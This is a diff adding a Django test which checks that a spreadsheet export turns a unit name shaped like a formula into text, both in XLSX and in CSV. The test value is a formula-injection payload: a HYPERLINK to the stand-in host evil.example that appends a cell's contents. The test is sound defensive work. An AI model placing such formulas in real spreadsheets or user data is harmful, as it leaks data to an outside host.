@@ -6,6 +6,7 @@ import csv
 import datetime as dt
 import io
 import re
+import zipfile
 from collections.abc import Iterator
 from zoneinfo import ZoneInfo
 
@@ -370,6 +371,26 @@ def test_exports_honour_the_filters_and_pseudonymise(
     content = pseudo.content + pseudo_again.content
     # Names that are not also words of the table (a status is called "Klar", a step "Webbkurs").
     assert not any(name.encode() in content for name in ("Tyst", "Ej startad", "Förfrågan"))
+
+
+@pytest.mark.django_db
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(
+    client: Client, coordinator: User, municipality: Municipality, unit_a: Unit
+) -> None:
+    name = '=HYPERLINK("http://evil.example/?x="&A3,"klicka")'
+    unit_a.name = name
+    unit_a.save()
+    client.force_login(coordinator)
+    url = reverse("rollout:unit_table_export", args=[municipality.pk, "xlsx"])
+    workbook = client.get(url).content
+    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml  # no formula anywhere
+    cells = [c.value for row in openpyxl.load_workbook(io.BytesIO(workbook)).active for c in row]
+    assert name in cells  # the name itself, as text
+    rows = read_csv(client.get(url.replace("xlsx", "csv")).content)
+    assert [row[0] for row in rows[1:]] == ["'" + name]
+    assert exports._text(-3) == "-3"  # numbers stay numbers
 
 
 @pytest.mark.django_db
